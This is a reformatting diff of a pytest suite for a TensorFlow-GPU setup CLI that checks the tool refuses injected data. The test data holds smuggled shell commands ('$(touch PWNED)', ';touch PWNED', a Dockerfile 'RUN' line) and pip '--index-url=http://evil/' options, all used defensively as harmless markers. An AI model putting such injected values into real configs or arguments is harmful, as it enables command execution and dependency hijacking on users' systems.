@@ -32,8 +32,22 @@ UNSAFE_PREFIXES = {
 @pytest.mark.parametrize("command", ["create", "remove", "doctor", "verify"])
 def test_unsafe_prefix_text_is_refused_before_anything_runs(cli, sandbox, text, command, local_wheels):
     before = snapshot(sandbox)
-    argv = {"create": ["create", "--tf", "2.21", "--mode", "pip", "--no-verify", "--find-links", str(local_wheels),
-                       "--offline"], "remove": ["remove"], "doctor": ["doctor"], "verify": ["verify"]}[command]
+    argv = {
+        "create": [
+            "create",
+            "--tf",
+            "2.21",
+            "--mode",
+            "pip",
+            "--no-verify",
+            "--find-links",
+            str(local_wheels),
+            "--offline",
+        ],
+        "remove": ["remove"],
+        "doctor": ["doctor"],
+        "verify": ["verify"],
+    }[command]
     done = cli(*argv, "--prefix", str(sandbox / text), "--json")
     assert (done.code, done.error) == (2, "bad-prefix")
     assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []
@@ -41,15 +55,27 @@ def test_unsafe_prefix_text_is_refused_before_anything_runs(cli, sandbox, text, 
 
 def test_a_prefix_that_is_not_utf8_is_refused(tool, sandbox):
     raw = os.fsencode(str(sandbox)) + b"/caf\xe9"
-    done = subprocess.run([sys.executable, "-m", "tfgpu", "create", "--tf", "2.21", "--prefix", raw, "--no-verify",
-                           "--json"], capture_output=True, cwd=sandbox, env=os.environ)
+    done = subprocess.run(
+        [sys.executable, "-m", "tfgpu", "create", "--tf", "2.21", "--prefix", raw, "--no-verify", "--json"],
+        capture_output=True,
+        cwd=sandbox,
+        env=os.environ,
+    )
     assert done.returncode == 2 and json.loads(done.stdout)["error"]["code"] == "bad-prefix"
     assert b"Traceback" not in done.stderr and not (sandbox / "caf\udce9").exists()
 
 
 def test_tfgpu_envs_dir_with_shell_text_is_refused(cli, sandbox):
-    done = cli("create", "--tf", "2.21", "--name", "tf", "--no-verify", "--json",
-               env={"TFGPU_ENVS_DIR": str(sandbox / "$(touch PWNED)")})
+    done = cli(
+        "create",
+        "--tf",
+        "2.21",
+        "--name",
+        "tf",
+        "--no-verify",
+        "--json",
+        env={"TFGPU_ENVS_DIR": str(sandbox / "$(touch PWNED)")},
+    )
     assert (done.code, done.error) == (2, "bad-prefix")
 
 
@@ -63,8 +89,18 @@ def test_odd_but_safe_prefixes_build_and_activate_cleanly(build, sandbox, prefix
     for shell in ("bash", "zsh"):
         if subprocess.run(["which", shell], capture_output=True).returncode:
             continue
-        ran = subprocess.run([shell, "-c", 'source "$1/bin/activate" && printf "%s|%s" "$VIRTUAL_ENV_PROMPT" "$VIRTUAL_ENV"',
-                              "x", str(target)], capture_output=True, text=True, cwd=sandbox)
+        ran = subprocess.run(
+            [
+                shell,
+                "-c",
+                'source "$1/bin/activate" && printf "%s|%s" "$VIRTUAL_ENV_PROMPT" "$VIRTUAL_ENV"',
+                "x",
+                str(target),
+            ],
+            capture_output=True,
+            text=True,
+            cwd=sandbox,
+        )
         assert ran.returncode == 0, ran.stderr
         label, env = ran.stdout.split("|")
         assert re.fullmatch(r"\(?[A-Za-z0-9._-]+\)? ?", label), label
@@ -86,8 +122,19 @@ def _overlay(sandbox, name: str, edit) -> str:
 
 def _script(cli, sandbox, fmt: str, overlay: str, *extra: str):
     out = sandbox / "out"
-    return cli("script", "--tf", "2.16.1", "--format", fmt, "-o", str(out), "--no-detect", "--json", *extra,
-               env={"TFGPU_DATA_DIR": overlay}), out
+    return cli(
+        "script",
+        "--tf",
+        "2.16.1",
+        "--format",
+        fmt,
+        "-o",
+        str(out),
+        "--no-detect",
+        "--json",
+        *extra,
+        env={"TFGPU_DATA_DIR": overlay},
+    ), out
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
@@ -101,7 +148,14 @@ def test_a_newline_in_a_quirk_message_is_refused(cli, sandbox, fmt):
 def test_shell_text_in_data_stays_a_comment(cli, sandbox, fmt):
     """A one-line quirk message with ``$(touch PWNED)`` is valid data: it must reach the files only
     as comment text (or a quoted string), never as something that runs."""
-    overlay = _overlay(sandbox, "quirks.toml", lambda t: t.replace('message = "', 'message = "$(touch PWNED) `touch PWNED` ', ))
+    overlay = _overlay(
+        sandbox,
+        "quirks.toml",
+        lambda t: t.replace(
+            'message = "',
+            'message = "$(touch PWNED) `touch PWNED` ',
+        ),
+    )
     done, out = _script(cli, sandbox, fmt, overlay)
     assert done.code == 0, done.out
     paths = [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]
@@ -121,28 +175,54 @@ def test_shell_text_in_data_stays_a_comment(cli, sandbox, fmt):
 
 
 def test_a_docker_tag_with_a_run_line_is_refused(cli, sandbox):
-    overlay = _overlay(sandbox, "docker_images.toml", lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1\\nRUN touch PWNED"', t,
-                                                                        count=0, flags=re.M))
+    overlay = _overlay(
+        sandbox,
+        "docker_images.toml",
+        lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1\\nRUN touch PWNED"', t, count=0, flags=re.M),
+    )
     done, out = _script(cli, sandbox, "dockerfile", overlay, "--mode", "system", "--tf", "2.13")
     assert (done.code, done.error) == (2, "bad-data") and not out.exists()
 
 
 def test_a_docker_tag_with_a_space_is_refused(cli, sandbox):
-    overlay = _overlay(sandbox, "docker_images.toml", lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1 AS x"', t, flags=re.M))
+    overlay = _overlay(
+        sandbox, "docker_images.toml", lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1 AS x"', t, flags=re.M)
+    )
     done, out = _script(cli, sandbox, "dockerfile", overlay, "--mode", "system", "--tf", "2.13")
     assert (done.code, done.error) == (2, "bad-data")
 
 
-@pytest.mark.parametrize("table,edit", [
-    ("pip_cuda.toml", lambda t: t.replace('"nvidia-cuda-runtime-cu11', '"nvidia-cuda-runtime-cu11==1\\n--index-url=http://evil/ #', 1)),
-    ("pip_cuda.toml", lambda t: t.replace('"nvidia-cuda-runtime-cu11', '"--index-url=http://evil/simple nvidia-cuda-runtime-cu11', 1)),
-    ("cuda.toml", lambda t: t.replace('linux = "525.60.13"', 'linux = "525.60.13$(touch PWNED)"', 1)),
-    ("cuda.toml", lambda t: t.replace('runfile_url = "https://', 'runfile_url = "https://x y/', 1)),
-    ("tensorflow.toml", lambda t: t.replace('version = "2.13.1"', 'version = "2.13.1;touch PWNED"', 1)),
-    ("conda_forge.toml", lambda t: t.replace('versions = ["', 'versions = ["11.8 ; touch PWNED", "', 1)),
-    ("log_signatures.toml", lambda t: t.replace("pattern = '", "pattern = '(unclosed", 1)),
-], ids=["requirement-newline", "requirement-option", "driver-shell", "url-space", "version-shell", "conda-version",
-        "bad-regex"])
+@pytest.mark.parametrize(
+    "table,edit",
+    [
+        (
+            "pip_cuda.toml",
+            lambda t: t.replace(
+                '"nvidia-cuda-runtime-cu11', '"nvidia-cuda-runtime-cu11==1\\n--index-url=http://evil/ #', 1
+            ),
+        ),
+        (
+            "pip_cuda.toml",
+            lambda t: t.replace(
+                '"nvidia-cuda-runtime-cu11', '"--index-url=http://evil/simple nvidia-cuda-runtime-cu11', 1
+            ),
+        ),
+        ("cuda.toml", lambda t: t.replace('linux = "525.60.13"', 'linux = "525.60.13$(touch PWNED)"', 1)),
+        ("cuda.toml", lambda t: t.replace('runfile_url = "https://', 'runfile_url = "https://x y/', 1)),
+        ("tensorflow.toml", lambda t: t.replace('version = "2.13.1"', 'version = "2.13.1;touch PWNED"', 1)),
+        ("conda_forge.toml", lambda t: t.replace('versions = ["', 'versions = ["11.8 ; touch PWNED", "', 1)),
+        ("log_signatures.toml", lambda t: t.replace("pattern = '", "pattern = '(unclosed", 1)),
+    ],
+    ids=[
+        "requirement-newline",
+        "requirement-option",
+        "driver-shell",
+        "url-space",
+        "version-shell",
+        "conda-version",
+        "bad-regex",
+    ],
+)
 def test_malformed_values_in_a_data_overlay_are_bad_data(cli, sandbox, table, edit):
     overlay = _overlay(sandbox, table, edit)
     done = cli("plan", "--tf", "2.13", "--no-detect", "--json", env={"TFGPU_DATA_DIR": overlay})
@@ -169,8 +249,10 @@ def test_tcl_and_lua_strings_are_data_to_the_real_interpreters(sandbox, value):
     """What tfgpu.quoting writes into a modulefile reads back as exactly the value, and runs nothing."""
     from tfgpu import quoting
 
-    for binary, program in (("tclsh", f"puts -nonewline [set v {quoting.tcl_string(value)}]\n"),
-                            ("lua", f"io.write({quoting.lua_string(value)})\n")):
+    for binary, program in (
+        ("tclsh", f"puts -nonewline [set v {quoting.tcl_string(value)}]\n"),
+        ("lua", f"io.write({quoting.lua_string(value)})\n"),
+    ):
         if subprocess.run(["which", binary], capture_output=True).returncode:
             continue
         script = sandbox / f"probe.{binary}"
@@ -217,9 +299,14 @@ def test_hostile_data_in_the_slurm_export_runs_nowhere(cli, sandbox):
                     target = env / path.relative_to(out)
                     target.parent.mkdir(parents=True, exist_ok=True)
                     target.write_text(path.read_text())
-            ran = subprocess.run(["bash", "-c", f'eval "$({lmod} bash load tf2.13)" && printf %s "$VIRTUAL_ENV"'],
-                                 capture_output=True, text=True, cwd=sandbox, timeout=60,
-                                 env={"PATH": "/usr/bin:/bin", "HOME": str(sandbox), "MODULEPATH": str(env / tree)})
+            ran = subprocess.run(
+                ["bash", "-c", f'eval "$({lmod} bash load tf2.13)" && printf %s "$VIRTUAL_ENV"'],
+                capture_output=True,
+                text=True,
+                cwd=sandbox,
+                timeout=60,
+                env={"PATH": "/usr/bin:/bin", "HOME": str(sandbox), "MODULEPATH": str(env / tree)},
+            )
             assert ran.returncode == 0 and ran.stdout == str(env), (tree, ran.stderr)
     assert not (sandbox / "PWNED").exists()
 
